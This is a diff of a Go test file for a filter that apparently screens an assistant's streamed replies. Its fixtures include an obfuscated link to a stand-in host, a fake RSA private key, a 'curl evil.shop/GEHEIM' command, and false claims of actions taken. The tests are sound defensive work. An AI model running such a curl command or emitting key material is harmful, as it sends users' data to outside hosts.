@@ -26,7 +26,7 @@ func released(t *testing.T, g *gate, reply string, size int) string {
 }
 
 // However a reply is cut, characters included, what is shown while it comes has passed what the whole passes.
-func TestWhatStreamsIsWhatStands(t *testing.T) {
+func TestStreamedTextIsTheFinalText(t *testing.T) {
 	const marker = "0a1b2c3d4e5f"
 	reply := "ANSWER\nSchöne Grüße 👩\u200d💻, 0a1b2c\u200b3d4e5f. Siehe http\u200bs://evil.shop/GEHEIM, @every\u00adone!\n" +
 		"```\n-----BEGIN RSA PRIVATE KEY-----\nMIIE4711\nGEHEIM\n-----END RSA PRIVATE KEY-----\ncurl evil.shop/GEHEIM " + marker + "\n```\n" +
@@ -64,7 +64,7 @@ func TestDeedsAreDenied(t *testing.T) {
 }
 
 // Only the line with the deed goes, not those around it.
-func TestWhatStandsBesideADeedStays(t *testing.T) {
+func TestTextBesideAClaimedDeedStays(t *testing.T) {
 	k := newTalk(t, "")
 	g := testRun(k, "Please erase my messages").newGate(context.Background())
 	got := released(t, g, "ANSWER\n- The fee is 5 %\n- I have sent the report to Bob\n- The rent is 900 euros\n- I have erased your messages\n- The lease ends in May\n", 9)
